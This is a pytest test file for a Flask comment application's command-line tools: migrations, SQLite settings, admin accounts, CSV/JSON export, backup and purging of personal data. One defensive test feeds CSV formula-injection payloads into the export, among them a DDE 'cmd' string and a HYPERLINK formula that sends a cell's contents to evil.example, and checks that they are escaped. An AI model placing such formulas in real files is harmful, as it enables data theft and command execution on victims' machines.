"""Operator commands: migrations, admins, export, backup."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import inspect, select, text

from webapp.extensions import db
from webapp.models import Admin, Comment, Status

from helpers import ADMIN_NAME, AuthActions, add_comment

ROOT = Path(__file__).resolve().parent.parent


def test_db_upgrade_creates_the_schema_the_models_describe(app_factory):
    app = app_factory(create_tables=False)
    with app.app_context():
        db.drop_all()  # start from nothing (PostgreSQL keeps tables between tests)
    runner = app.test_cli_runner()
    result = runner.invoke(args=["db", "upgrade"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(args=["db", "check"])
    assert result.exit_code == 0, result.output
    with app.app_context():
        tables = set(inspect(db.engine).get_table_names())
    assert {"comments", "admins", "moderation_log", "alembic_version"} <= tables


RELEASED = "db5035aba859"  # the schema of the first release


def test_migrations_upgrade_the_released_schema_and_keep_its_data(app_factory):
    app = app_factory(create_tables=False)
    with app.app_context():
        db.drop_all()
    runner = app.test_cli_runner()
    assert runner.invoke(args=["db", "upgrade", RELEASED]).exit_code == 0
    with app.app_context():
        db.session.execute(text(
            "INSERT INTO comments (article_slug, depth, author, email, email_hash, url, body, status, "
            "hold_reason, ip, created_at, updated_at) VALUES ('a', 0, 'Ani', 'ani@example.com', 'h', '', "
            "'Tetap ada', 'approved', '', '192.0.2.0', '2026-11-26 03:09:00', '2026-11-26 03:09:00')"))
        db.session.execute(text(
            "INSERT INTO admins (name, password_hash, session_token, created_at) "
            "VALUES ('editor', 'x', 't', '2026-11-26 03:09:00')"))
        db.session.commit()
    result = runner.invoke(args=["db", "upgrade"])
    assert result.exit_code == 0, result.output
    assert runner.invoke(args=["db", "check"]).exit_code == 0
    with app.app_context():
        [comment] = db.session.scalars(select(Comment)).all()
        assert (comment.author, comment.body, comment.status) == ("Ani", "Tetap ada", "approved")
        assert db.session.scalar(select(Admin.name)) == "editor"


def test_the_mail_migration_keeps_the_comments_and_goes_both_ways(app_factory):
    app = app_factory(create_tables=False)
    with app.app_context():
        db.drop_all()
        db.engine.dispose()
    runner = app.test_cli_runner()
    assert runner.invoke(args=["db", "upgrade", "db5035aba859"]).exit_code == 0  # before mail
    with app.app_context():
        with db.engine.begin() as connection:
            connection.exec_driver_sql(
                "INSERT INTO comments (article_slug, depth, author, email, email_hash, url, body, "
                "status, hold_reason, ip, created_at, updated_at) VALUES ('a', 0, 'Ani', "
                "'ani@example.com', 'h', '', 'Sebelum surat.', 'approved', '', '', "
                "'2026-11-30 10:00:00+00:00', '2026-11-30 10:00:00+00:00')"
            )
        db.engine.dispose()
    for step in (["upgrade"], ["downgrade", "db5035aba859"], ["upgrade"], ["check"]):
        result = runner.invoke(args=["db", *step])
        assert result.exit_code == 0, (step, result.output)
    with app.app_context():
        [kept] = db.session.scalars(select(Comment)).all()
        assert (kept.body, kept.notify, kept.edited_at) == ("Sebelum surat.", False, None)
        assert {"subscribers", "outbox"} <= set(inspect(db.engine).get_table_names())
        db.engine.dispose()


@pytest.mark.sqlite_only
def test_the_sqlite_file_is_in_wal_mode(app_factory, tmp_path):
    app = app_factory(create_tables=False)
    assert app.test_cli_runner().invoke(args=["db", "upgrade"]).exit_code == 0
    with sqlite3.connect(tmp_path / "warta.sqlite3") as connection:
        assert connection.execute("PRAGMA journal_mode").fetchone()[0] == "wal"


@pytest.mark.sqlite_only
def test_connections_use_wal_busy_timeout_and_foreign_keys(app):
    with app.app_context():
        connection = db.engine.raw_connection()
        try:
            cursor = connection.cursor()
            assert cursor.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
            assert cursor.execute("PRAGMA foreign_keys").fetchone()[0] == 1
            assert cursor.execute("PRAGMA busy_timeout").fetchone()[0] == 30000
            assert cursor.execute("PRAGMA synchronous").fetchone()[0] == 1  # NORMAL
        finally:
            connection.close()


@pytest.mark.sqlite_only
def test_sqlite_can_sync_every_commit(app_factory):
    app = app_factory(create_tables=False, WARTA_SQLITE_SYNCHRONOUS="full")
    with app.app_context():
        connection = db.engine.raw_connection()
        try:
            assert connection.cursor().execute("PRAGMA synchronous").fetchone()[0] == 2  # FULL
        finally:
            connection.close()
    with pytest.raises(ValueError, match="WARTA_SQLITE_SYNCHRONOUS is NORMAL or FULL"):
        app_factory(create_tables=False, WARTA_SQLITE_SYNCHRONOUS="OFF")


def test_admin_create_passwd_delete(app, client):
    runner = app.test_cli_runner()
    result = runner.invoke(args=["admin", "create", ADMIN_NAME], input="panjang-sekali\npanjang-sekali\n")
    assert result.exit_code == 0 and result.output == "Admin “editor” dibuat.\n"
    with app.app_context():
        admin = db.session.scalar(select(Admin))
        assert admin.password_hash.startswith("scrypt:") and "panjang-sekali" not in admin.password_hash
    assert runner.invoke(args=["admin", "create", ADMIN_NAME], input="x" * 8 + "\n" + "x" * 8 + "\n").exit_code != 0
    assert runner.invoke(args=["admin", "create", "baru"], input="pendek\npendek\n").exit_code != 0
    assert runner.invoke(args=["admin", "create", "baru"], input="satu-satu\ndua-dua-dua\n").exit_code != 0
    auth = AuthActions(client)
    assert auth.login(password="panjang-sekali").status_code == 303
    assert runner.invoke(args=["admin", "passwd", ADMIN_NAME], input="sandi-baru-1\nsandi-baru-1\n").exit_code == 0
    assert client.get("/admin/").status_code == 302  # the old session ended with the old password
    assert auth.login(password="panjang-sekali").status_code == 422
    assert auth.login(password="sandi-baru-1").status_code == 303
    assert runner.invoke(args=["admin", "delete", ADMIN_NAME]).exit_code == 0
    assert client.get("/admin/").status_code == 302
    assert runner.invoke(args=["admin", "delete", ADMIN_NAME]).exit_code != 0


def test_admin_commands_speak_the_uis_language(app_factory):
    runner = app_factory().test_cli_runner()
    assert runner.invoke(args=["admin", "create", "ani"], input="panjang-sekali\npanjang-sekali\n").exit_code == 0
    cases = [
        (["admin", "create", "Ani"], "panjang-sekali\npanjang-sekali\n", "Galat: Admin bernama “Ani” sudah ada.\n"),
        (["admin", "create", "baru"], "pendek\npendek\n", "Galat: Kata sandi paling sedikit 8 karakter.\n"),
        (["admin", "create", "baru"], "satu-satu\ndua-dua-dua\n", "Galat: Kedua kata sandi berbeda.\n"),
        (["admin", "delete", "tidak-ada"], "", "Galat: Tidak ada admin bernama “tidak-ada”.\n"),
    ]
    for args, typed, said in cases:
        result = runner.invoke(args=args, input=typed)
        assert (result.exit_code, result.output) == (1, said)
    assert runner.invoke(args=["admin", "passwd", "ani"], input="sandi-baru-1\nsandi-baru-1\n").output == (
        "Kata sandi “ani” diganti.\n")
    assert runner.invoke(args=["admin", "delete", "ani"]).output == "Admin “ani” dihapus.\n"
    english = app_factory(WARTA_LOCALE="en").test_cli_runner()
    result = english.invoke(args=["admin", "delete", "nobody"])
    assert result.output == "Error: No admin called “nobody”.\n"


def test_admin_create_reads_a_piped_password_through_the_real_command(app, tmp_path):
    env = {"WARTA_SQLALCHEMY_DATABASE_URI": app.config["SQLALCHEMY_DATABASE_URI"], "WARTA_SECRET_KEY": "x",
           "WARTA_CACHE_STORAGE_URI": f"file://{tmp_path / 'cache'}", "PATH": "/usr/bin:/bin"}
    flask = [sys.executable, "-m", "flask", "--app", "wsgi"]
    result = subprocess.run([*flask, "admin", "create", "pipa"], cwd=ROOT, env=env, input="pw-12345678\npw-12345678\n",
                            capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert result.stdout == "Admin “pipa” dibuat.\n"
    with app.app_context():
        assert db.session.scalars(select(Admin.name)).all() == ["pipa"]
    again = subprocess.run([*flask, "admin", "create", "pipa"], cwd=ROOT, env=env, input="pw-12345678\npw-12345678\n",
                           capture_output=True, text=True, timeout=60)
    assert (again.returncode, again.stderr) == (1, "Galat: Admin bernama “pipa” sudah ada.\n")


def test_export_json_and_csv_carry_the_full_email(app):
    add_comment(app, author="Ani", email="ani.lengkap@example.com", body="Halo, \"dunia\"\nbaris dua")
    add_comment(app, author="Budi", email="budi@example.com", status=Status.SPAM, body="=HYPERLINK()")
    runner = app.test_cli_runner()
    result = runner.invoke(args=["comments", "export", "--format", "json"])
    rows = json.loads(result.output)
    assert [(r["author"], r["email"], r["status"]) for r in rows] == [
        ("Ani", "ani.lengkap@example.com", "approved"), ("Budi", "budi@example.com", "spam")]
    assert rows[0]["body"] == "Halo, \"dunia\"\nbaris dua"
    result = runner.invoke(args=["comments", "export", "--format", "csv"])
    parsed = list(csv.DictReader(io.StringIO(result.output)))
    assert parsed[0]["email"] == "ani.lengkap@example.com"
    assert parsed[0]["body"] == "Halo, \"dunia\"\nbaris dua"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_never_read_as_formulas(app, start):
    add_comment(app, author=f"{start}cmd|' /C calc'!A0", url=f"{start}1+1",
                body=f'{start}HYPERLINK("https://evil.example/?d="&A1, "klik")')
    result = app.test_cli_runner().invoke(args=["comments", "export", "--format", "csv"])
    [row] = list(csv.DictReader(io.StringIO(result.output)))
    for field in ("author", "url", "body"):
        assert row[field].startswith("'" + start), field
    assert row["id"].isdigit()  # numbers are left alone
    json_rows = json.loads(app.test_cli_runner().invoke(args=["comments", "export"]).output)
    assert json_rows[0]["body"].startswith(start)  # JSON is no spreadsheet: kept as typed


@pytest.mark.sqlite_only
def test_backup_makes_a_copy_that_opens_and_holds_every_comment(app, app_factory, tmp_path):
    ids = [add_comment(app, body=f"cadangan {n}") for n in range(30)]
    target = tmp_path / "backup" / "copy.sqlite3"
    target.parent.mkdir()
    result = app.test_cli_runner().invoke(args=["backup", str(target)])
    assert result.exit_code == 0, result.output
    assert "30 komentar" in result.output
    with sqlite3.connect(target) as copy:
        assert copy.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert [r[0] for r in copy.execute("SELECT id FROM comments ORDER BY id")] == ids
    # Restoring is pointing the app at the copy.
    restored = app_factory(create_tables=False, SQLALCHEMY_DATABASE_URI=f"sqlite:///{target}")
    html = restored.test_client().get("/articles/putin-kim-pakta-pertahanan").get_data(as_text=True)
    assert "30 komentar" in html
    assert app.test_cli_runner().invoke(args=["backup", str(target)]).exit_code != 0  # never overwrites


def test_commands_have_help(app):
    runner = app.test_cli_runner()
    for command in (["admin", "create"], ["admin", "passwd"], ["admin", "delete"],
                    ["comments", "export"], ["backup"]):
        result = runner.invoke(args=[*command, "--help"])
        assert result.exit_code == 0 and len(result.output.splitlines()[2]) > 10


def test_purge_personal_clears_old_addresses_and_keeps_the_policy_working(app, client):
    from datetime import timedelta

    from webapp.timeutil import utcnow

    from helpers import post

    post(client, email="lama@example.com", comment="Komentar lama")  # first time: held
    with app.app_context():
        old = db.session.scalars(select(Comment)).one()
        old.status, old.created_at = Status.APPROVED, utcnow() - timedelta(days=100)
        db.session.commit()
    recent = add_comment(app, email="baru@example.com", ip="198.51.100.0")
    runner = app.test_cli_runner()
    refused = runner.invoke(args=["comments", "purge-personal", "--older-than", "soon"])
    assert (refused.exit_code, refused.output) == (1, "Galat: --older-than: gunakan angka dan satuan: 90d, 12w, atau 36h\n")
    result = runner.invoke(args=["comments", "purge-personal", "--older-than", "90d"])
    assert result.exit_code == 0 and "dari 1 komentar" in result.output, result.output
    with app.app_context():
        purged = db.session.get(Comment, old.id)
        assert (purged.email, purged.ip) == ("", "") and len(purged.email_hash) == 64
        kept = db.session.get(Comment, recent)
        assert (kept.email, kept.ip) == ("baru@example.com", "198.51.100.0")
    exported = runner.invoke(args=["comments", "export"]).output
    assert "lama@example.com" not in exported
    # The returning commenter is still recognised: approved straight away.
    post(client, email="LAMA@example.com", comment="Saya kembali")
    with app.app_context():
        assert db.session.scalars(select(Comment).order_by(Comment.id.desc())).first().status == Status.APPROVED
